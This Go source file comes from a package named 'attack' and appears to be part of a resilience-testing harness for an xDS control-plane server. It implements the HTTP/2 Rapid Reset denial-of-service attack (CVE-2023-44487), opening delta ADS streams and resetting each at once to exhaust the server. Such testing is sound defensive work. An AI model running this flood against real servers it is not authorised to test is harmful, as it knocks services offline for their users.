package attack

import (
	"context"

	discoveryv3 "github.com/envoyproxy/go-control-plane/envoy/service/discovery/v3"
	"golang.org/x/net/http2"
	"google.golang.org/protobuf/proto"

	"navarch.io/navarch/push/xds"
)

// resets begins streams of delta ADS on one connection and resets each at once, every second one after its first
// request, as fast as the connection permits (CVE-2023-44487). A server that starts work for each stream then has an
// unbounded amount of work, whatever its limit of concurrent streams.
func resets(ctx context.Context, w *attacker) string {
	ctx, cancel := context.WithTimeout(ctx, w.Hold)
	defer cancel()
	return w.http2(ctx, func(ctx context.Context, u *http2Conn) error {
		for i := 0; ctx.Err() == nil; i++ {
			if err := w.reset(u, uint32(2*i+1), i); err != nil {
				return err
			}
			w.count(func(c *Count) { c.Requests++ })
		}
		return nil
	})
}

// reset begins one stream and resets it.
func (w *attacker) reset(u *http2Conn, stream uint32, i int) error {
	first, err := proto.Marshal(&discoveryv3.DeltaDiscoveryRequest{Node: w.node(w.invented(i % 64)).message(), TypeUrl: xds.Cluster.URL()})
	if err != nil {
		return err
	}
	if err := u.begin(stream, deltaMethod, w.Token, uint32(len(first))); err != nil {
		return err
	}
	u.write.Lock()
	defer u.write.Unlock()
	if i%2 == 0 {
		if err := u.WriteData(stream, false, first); err != nil {
			return err
		}
	}
	return u.WriteRSTStream(stream, http2.ErrCodeCancel)
}
